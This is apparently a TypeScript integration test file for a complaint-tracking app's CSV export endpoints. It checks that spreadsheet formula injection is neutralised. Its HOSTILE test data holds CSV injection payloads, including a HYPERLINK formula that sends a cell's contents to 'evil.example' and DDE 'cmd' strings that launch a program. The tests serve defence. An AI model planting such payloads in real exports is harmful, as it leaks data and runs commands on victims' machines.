import crypto from 'node:crypto'
import { parse } from 'csv-parse/sync'
import request from 'supertest'
import { beforeAll, describe, expect, it } from 'vitest'
import { ingestPosts } from '../../server/domain/ingest/ingest-posts.js'
import { makeUser, signIn, type SignedIn } from '../support/auth.js'
import { makeBrand, makePost } from '../support/factories.js'
import { apiForFile } from '../support/server.js'
import { waitForAnalysis } from '../support/wait.js'

const file = apiForFile()
let viewer: SignedIn

beforeAll(async () => {
  viewer = await signIn(file.api.url, await makeUser(file.t.ctx, 'viewer'))
})

const HOUR = 3_600_000
const ANGRY =
  'Kredo deleted my whole history overnight. This is outrageous and I want it back now. Terrible, fix this.'
/** Post texts a spreadsheet would run, or that break naive CSV. */
const HOSTILE = [
  `=HYPERLINK("http://evil.example/?leak="&A1,"click") ${ANGRY}`,
  `+cmd|' /C calc'!A0 ${ANGRY}`,
  `@SUM(1+9)*cmd|' /C calc'!A0 ${ANGRY}`,
  `-2+3 ${ANGRY}`,
  `\tx ${ANGRY}`,
  `"Quoted", with commas,\nand a new line\r\n${ANGRY}`,
]

/** A brand with one complaint per hostile text, by authors whose handles are hostile too. */
async function hostileBrand() {
  const brand = await makeBrand(file.t.ctx)
  const base = new Date(Math.floor(Date.now() / HOUR) * HOUR - 24 * HOUR)
  const ingested = await ingestPosts(file.t.ctx, {
    brandId: brand.id,
    channel: 'import',
    posts: HOSTILE.map((text, i) =>
      makePost({
        text,
        postedAt: new Date(base.getTime() + i * 60_000).toISOString(),
        author: { externalId: `did:plc:h${i}-${brand.id}`, handle: `=h${i}.example`, followers: 5 },
      }),
    ),
  })
  await waitForAnalysis(file.t.ctx, ingested.outboxIds)
  const range = `range=custom&from=${base.toISOString()}&to=${new Date(base.getTime() + HOUR).toISOString()}`
  return { brand, base, range }
}

describe('GET exports/complaints.csv', () => {
  it('streams a header and every complaint of the period, formulas neutralised, quoted per RFC 4180', async () => {
    const { brand, range } = await hostileBrand()
    const res = await viewer.get(`/api/brands/${brand.id}/exports/complaints.csv?${range}`)
    expect(res.status).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="complaints-\d{4}-\d\d-\d\d-\d{4}-\d\d-\d\d\.csv"$/,
    )
    const [header, ...rows] = parse(res.text) as string[][]
    expect(header).toEqual([
      'complaint_id',
      'first_seen_at',
      'network',
      'state',
      'priority',
      'author_handle',
      'author_followers',
      'lead_post_url',
      'lead_post_text',
      'complaint_posts',
      'posts',
      'first_response_at',
      'resolved_at',
      'outcome',
    ])
    const text = header!.indexOf('lead_post_text')
    const handle = header!.indexOf('author_handle')
    // Oldest first: the hostile texts in the order they were written, each behind a quote mark.
    expect(rows.map((r) => r[text])).toEqual(
      HOSTILE.map((h) => (/^[=+\-@\t]/.test(h) ? `'${h}` : h)),
    )
    expect(rows.map((r) => r[handle])).toEqual(HOSTILE.map((_, i) => `'=h${i}.example`))
    // No field of the raw file starts a cell with a formula character.
    expect(res.text).not.toMatch(/(^|,)[=+\-@]/m)
  })

  it('is read by viewers, refused unsigned, and a bad range is a 400 before any byte', async () => {
    const brand = await makeBrand(file.t.ctx)
    const path = `/api/brands/${brand.id}/exports/complaints.csv`
    const empty = await viewer.get(path)
    expect(empty.status).toBe(200)
    expect(empty.text.split('\r\n')).toHaveLength(2)
    expect((await request(file.api.url).get(path)).status).toBe(401)
    const at = new Date().toISOString()
    const bad = await viewer.get(`${path}?range=custom&from=${at}&to=${at}`)
    expect(bad.status).toBe(400)
    expect(bad.headers['content-type']).toMatch(/application\/json/)
    expect(bad.body.error.issues).toEqual([
      { path: 'to', message: 'The range is empty: to equals from' },
    ])
    expect(
      (await viewer.get(`/api/brands/${crypto.randomUUID()}/exports/complaints.csv`)).status,
    ).toBe(404)
  })
})

describe('GET exports/rollups.csv', () => {
  it('streams the rollup rows of a grain and dimension, the same counts as the trends', async () => {
    const { brand, range } = await hostileBrand()
    const path = `/api/brands/${brand.id}/exports/rollups.csv?${range}&grain=hour&dimension=network`
    const res = await viewer.get(path)
    expect(res.status).toBe(200)
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="rollups-network-hour-/,
    )
    const records = parse(res.text, { columns: true }) as Record<string, string>[]
    expect(records).toHaveLength(1)
    expect(records[0]).toMatchObject({
      grain: 'hour',
      dimension: 'network',
      key: 'bluesky',
      posts: String(HOSTILE.length),
      complaints: String(HOSTILE.length),
    })
    const trends = await viewer.get(`/api/brands/${brand.id}/trends?${range}&grain=hour`)
    expect(Number(records[0]!.negative)).toBe(trends.body.data.totals.negative)

    const bad = await viewer.get(`/api/brands/${brand.id}/exports/rollups.csv?dimension=colour`)
    expect(bad.status).toBe(400)
    expect(bad.body.error.issues[0].path).toBe('dimension')
  })
})
